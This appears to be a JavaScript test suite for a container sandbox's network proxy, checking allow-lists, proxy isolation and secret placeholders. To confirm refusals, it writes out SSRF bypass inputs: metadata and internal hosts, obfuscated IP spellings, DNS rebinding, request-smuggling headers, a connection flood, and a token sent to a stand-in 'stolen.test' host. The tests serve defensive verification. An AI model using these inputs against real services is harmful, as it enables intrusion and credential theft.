// What programs in containers reach: through a proxy in belljar, by policy, in the lab of tests/network. Containers themselves have no network, and the engine
// knows nothing of the lab.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, test } from 'node:test';

import { until } from '../e2e/lib/wait.mjs';
import { addresses, families, inUrl, ports, secure as places } from '../network/lib/addresses.mjs';
import { openBench, session } from '../network/lib/bench.mjs';
import { placeholder, SecretsBench, valuesOf } from '../network/lib/secrets_bench.mjs';

const helpers = readFileSync(new URL('lib/proxied.mjs', import.meta.url), 'utf8');
Object.assign(process.env, { TEST_DOCKER: `unix://${process.env.BELLJAR_TEST_DOCKER}`, TEST_DOCKER_IMAGE: process.env.BELLJAR_TEST_DOCKER_IMAGE });

class ContainerBench extends SecretsBench {
  helpers = helpers;
}
const bench = openBench(new ContainerBench());
const { public: server, lan, host, metadata, neighbour } = addresses;
const reached = async () => (await bench.lab.log()).connections.map(({ to, port }) => `${to} ${port}`);
const places4And6 = (who) => families.map((family) => inUrl(who[family]));

describe('internet', () => {
  test('fetch, node:http and a connection lead to where they were asked for', async () => {
    const { seen, network } = await bench.inside(async () => [await get('http://good.test/'), await request('http://good.test:8080/'), (await tunnel('good.test:7', 'echoed')).rest]);
    assert.match(seen[0], / 80 good\.test$/);
    assert.match(seen[1], /^200 .* 8080 good\.test:8080$/);
    assert.equal(seen[2], 'echoed');
    assert.deepEqual(network.map(({ host: name, port, verdict }) => [name, port, verdict]), [['good.test', 80, 'allowed'], ['good.test', 8080, 'allowed'], ['good.test', 7, 'allowed']]);
  });

  for (const family of families) {
    test(`an address can be used like a name, ${family}`, async () => {
      const { seen } = await bench.inside(async (place) => [await request(`http://${place}/`), (await tunnel(`${place}:7`, 'by address')).rest], { data: inUrl(server[family]) });
      assert.deepEqual(seen, [`200 ${server[family]} 80 ${inUrl(server[family])}`, 'by address']);
    });
  }

  test('much passes in both directions', async () => {
    const size = 16 << 20;
    const { seen } = await bench.inside(async (size) => {
      const { createHash, randomBytes } = await import('node:crypto');
      const body = randomBytes(size);
      const down = await fetch(`http://good.test/bytes/${size}`).then((response) => response.bytes());
      return [await get('http://good.test/sum', { method: 'POST', body }) === createHash('sha256').update(body).digest('hex'), down.length];
    }, { data: size });
    assert.deepEqual(seen, [true, size]);
  });

  test('shell commands and later programs of a session find the proxy, too', async (t) => {
    const id = await session(t, bench.server, {});
    const { text } = await bench.server.call('sandbox_exec', { container_id: id, commands: ['wget -q -O - http://good.test/'] });
    assert.match(text, / 80 good\.test/);
    assert.match((await bench.inside(() => get('http://good.test/'), { in: id })).seen, / 80 good\.test$/);
  });

  test('what is refused or silent outside is said', async () => {
    const { seen } = await bench.inside(async (closed) => [(await tunnel(`good.test:${closed}`)).status, (await tunnel('down.test:80')).status, (await tunnel('nobody.test:80')).heard], { data: ports.closed });
    assert.deepEqual(seen.slice(0, 2), [502, 502]);
    assert.match(seen[2], /^HTTP\/1\.1 502 [^]*belljar: nobody\.test has no address/);
  });
});

describe('nothing else is reached', () => {
  const forbidden = [lan, metadata, neighbour, host].flatMap(places4And6).concat(['127.0.0.1', '[::1]', '10.0.2.2', '[::ffff:10.1.2.3]', '[64:ff9b::10.1.2.3]', '0.0.0.0']);
  const leading = ['evil.test', 'loop.test', 'zero.test', 'meta.test', 'metadata.google.internal', 'host.docker.internal', 'self.test', 'mapped.test', 'translated.test', 'trap.good.test', 'localhost'];
  const listens = [80, 443, ports.hostEverywhere, ports.hostLoopback];

  test('NW02, NW04, NW05: addresses that are not public, by either way of asking', async () => {
    const { seen, network } = await bench.inside(async ({ forbidden, listens }) => {
      const statuses = [];
      for (const place of forbidden) for (const port of listens) statuses.push((await tunnel(`${place}:${port}`)).status, statusOf(await tellProxy(`GET http://${place}:${port}/ HTTP/1.1\r\n\r\n`)));
      return [...new Set(statuses)];
    }, { data: { forbidden, listens } });
    assert.deepEqual(seen, [403]);
    assert.deepEqual(await reached(), []);
    assert.deepEqual((await bench.lab.log()).host.connections, []);
    assert.ok(network.every(({ verdict }) => verdict === 'blocked'));
  });

  test('NW02, NW04: names that lead there', async () => {
    const { seen } = await bench.inside((names) => Promise.all(names.map(async (name) => (await tunnel(`${name}:80`)).status)), { data: leading });
    assert.deepEqual([...new Set(seen)].sort(), [403, 502]); // 502: a name without an address
    assert.deepEqual(await reached(), []);
    assert.deepEqual((await bench.lab.log()).host.connections, []);
  });

  test('NW10: a name that changes its mind', async () => {
    const { seen } = await bench.inside(async () => [(await tunnel('rebind.test:7', 'x')).status, (await tunnel('rebind.test:7', 'x')).status]);
    assert.deepEqual(seen, [200, 403]);
    assert.ok((await reached()).every((place) => place.startsWith(`${server.v4} `)));
  });

  test('NW12: odd spellings of addresses and requests', async () => {
    const { seen } = await bench.inside(async () => {
      const places = ['127.1:80', '0x0a010203:80', '167838211:80', '010.1.2.3:80', '[fd12::7%25lo]:80', 'good.test@10.1.2.3:80', '10.1.2.3:80/good.test', 'good.test:80 10.1.2.3:80', '10.1.2.3', 'good.test:80\\10.1.2.3'];
      const heads = ['GET http://good.test@10.1.2.3/ HTTP/1.1\r\n\r\n', 'GET //10.1.2.3/ HTTP/1.1\r\nHost: good.test\r\n\r\n', 'GET / HTTP/1.1\r\nHost: 10.1.2.3\r\n\r\n', 'GET https://good.test/ HTTP/1.1\r\n\r\n',
        'GET http://good.test/ HTTP/1.1\nHost: 10.1.2.3\n\n\r\n\r\n', 'GET http://good.test/ HTTP/1.1\r\nX: y\r\n z\r\n\r\n', 'GET http://good.test/\r\n\r\n', 'POST http://good.test/ HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n', 'CONNECT good.test:80 HTTP/1.1\r\nX: ' + 'y'.repeat(20000) + '\r\n\r\n', '\x16\x03\x01\x02\r\n\r\n'];
      const all = await Promise.all([...places.map((place) => tunnel(place)), ...heads.map(async (text) => ({ heard: await tellProxy(text) }))]);
      return all.map(({ heard }) => heard.slice(0, 12));
    });
    assert.deepEqual([...new Set(seen)], ['HTTP/1.1 400']);
    assert.deepEqual(await reached(), []);
  });

  test('NW12: a second request on a connection goes to the first one\'s host, or nowhere', async () => {
    const { seen } = await bench.inside(() => tellProxy('GET http://good.test/ HTTP/1.1\r\n\r\nGET http://10.1.2.3/ HTTP/1.1\r\nHost: 10.1.2.3\r\n\r\n'));
    assert.equal(seen.match(/HTTP\/1\.1 200/g).length, 1);
    assert.deepEqual(await reached(), [`${server.v4} 80`]);
  });

  test('NW13, NW14, NW25: who does not ask the proxy reaches nothing, by any protocol', async () => {
    const before = bench.lab.arrived();
    const { seen } = await bench.inside(async ({ server, lan }) => ({
      devices: Object.keys(os.networkInterfaces()), public: await dial(server, 80), lan: await dial(lan, 80), name: await lookup('good.test'),
      datagram: await new Promise((resolve) => dgram.createSocket('udp4').send('x', 7, server, (error) => resolve(error?.code ?? 'sent'))),
    }), { data: { server: server.v4, lan: lan.v4 } });
    assert.deepEqual(seen.devices, ['lo']);
    for (const outcome of [seen.public, seen.lan, seen.datagram]) assert.match(outcome, /^E(NET|HOST)UNREACH$/); // the latter by gVisor
    assert.match(String(seen.name), /EAI_AGAIN|ENOTFOUND/);
    assert.deepEqual(bench.lab.arrived(), before, 'a packet has come to the world');
  });

  test('NW16, NW26: hundreds of connections that say nothing keep nobody else from it, and nobody has another\'s proxy', async (t) => {
    const [hog, other] = [await session(t, bench.server, {}), await session(t, bench.server, {})];
    const { seen } = await bench.inside(async () => {
      let closed = 0;
      // One after the other: the kernel lets only so many wait to be accepted.
      for (let i = 0; i < 300; ++i) await new Promise((resolve) => net.connect(proxy.port, proxy.hostname, resolve).on('error', () => {}).on('close', () => ++closed).resume());
      while (closed < 300 - 256) await new Promise((resolve) => setImmediate(resolve));
      return (await tunnel('good.test:80')).status === 0 ? closed : 'there was room for one more';
    }, { in: hog });
    assert.equal(seen, 300 - 256);
    assert.match((await bench.inside(() => get('http://good.test/'), { in: other })).seen, / 80 good\.test$/);
    const port = async (id) => (await bench.inside(() => process.env.HTTP_PROXY, { in: id })).seen;
    assert.equal((await bench.inside((url) => (url === process.env.HTTP_PROXY ? 'the same number' : dial('127.0.0.1', new URL(url).port)), { in: other, data: await port(hog) })).seen.replace('the same number', 'ECONNREFUSED'), 'ECONNREFUSED');
    assert.match((await bench.inside(() => get('http://good.test/'), { in: hog })).seen, / 80 good\.test$/, 'they went with their program');
  });
});

describe('policies', () => {
  test('none: there is no proxy, and no variable says so (NW01)', async () => {
    const { seen } = await bench.inside(async () => ({ variables: Object.keys(process.env).filter((name) => /proxy/i.test(name)), direct: await get('http://good.test/') }), { network: 'none' });
    assert.deepEqual(seen.variables, []);
    assert.match(seen.direct, /EAI_AGAIN|ENOTFOUND/);
  });

  test('allow: what is on the list, and no query for anything else leaves (NW08, NW09)', async () => {
    const { seen, network } = await bench.inside(async () => Promise.all(['good.test:80', 'good.test:7', 'sub.good.test:80', 'other.test:80'].map(async (place) => (await tunnel(place, 'GET / HTTP/1.0\r\n\r\n')).status)), { network: 'allow:good.test' });
    assert.deepEqual(seen, [200, 403, 403, 403]);
    assert.deepEqual(network.map(({ host: name, port, verdict }) => `${name}:${port} ${verdict}`).sort(), ['good.test:7 blocked', 'good.test:80 allowed', 'other.test:80 blocked', 'sub.good.test:80 blocked']);
    assert.deepEqual([...new Set((await bench.lab.log()).queries.map(({ name }) => name))], ['good.test']);
  });

  test('host: the host\'s own loopback is 10.0.2.2', async () => {
    const { seen } = await bench.inside(async (port) => [await request(`http://10.0.2.2:${port}/`), await request('http://10.1.2.3/')], { data: ports.hostLoopback, network: 'host' });
    assert.match(seen[0], /^200 127\.0\.0\.1 /);
    assert.match(seen[1], /^200 10\.1\.2\.3 /);
  });

  test('more than the operator allows is refused, and a failed program is told what was blocked', async (t) => {
    const strict = await bench.serve(t, { BELLJAR_NETWORK: 'allow:good.test' });
    const refused = await strict.call('run_js_ephemeral', { code: '1', network: 'internet' });
    assert.match(refused.text, /operator allows at most "allow:good\.test"/);
    const failed = await strict.call('run_js_ephemeral', { code: 'await fetch("https://other.test/")' });
    assert.match(failed.text, /blocked: other\.test:443/);
  });

  test('the way out ends with the sandbox', async () => {
    await bench.lab.reset();
    const { text: id } = await bench.server.call('sandbox_initialize', {});
    await bench.server.call('run_js', { container_id: id, listenOnPort: 0, code: `import net from 'node:net'; const { hostname, port } = new URL(process.env.HTTP_PROXY);
      const out = net.connect(port, hostname, () => out.write('CONNECT good.test:7 HTTP/1.1\\r\\n\\r\\n')).once('data', () => net.createServer().listen(process.env.PORT));` });
    const open = async () => (await bench.lab.log()).connections.filter((one) => one.open).length;
    assert.equal(await open(), 1);
    await bench.server.call('sandbox_stop', { container_id: id });
    await until('its connection to end', async () => (await open()) === 0);
  });
});

describe('secrets', () => {
  test('arrive where the placeholder was, and only at their host', async () => {
    const { seen } = await bench.inside(async () => {
      const said = async (url) => (await fetch(url, { headers: { authorization: `Bearer ${process.env.GITHUB_TOKEN}` } })).status;
      return { statuses: [await said('https://api.test/own')], token: process.env.GITHUB_TOKEN, trusted: process.env.NODE_EXTRA_CA_CERTS };
    });
    assert.deepEqual(seen, { statuses: [200], token: placeholder('github'), trusted: '/etc/ssl/belljar.pem' });
    const [request] = await bench.requests();
    assert.deepEqual(valuesOf(request, 'authorization'), [`Bearer ${bench.values.github}`]);
    assert.ok(Object.values(places.api).includes(request.to));
  });

  test('never come to somebody who only has the name', async () => {
    const { seen } = await bench.inside(async () => (await fetch('https://stolen.test/', { headers: { authorization: `Bearer ${process.env.GITHUB_TOKEN}` } })).status);
    assert.equal(seen, 502);
    assert.equal(bench.leaked(await bench.said()), undefined);
  });
});
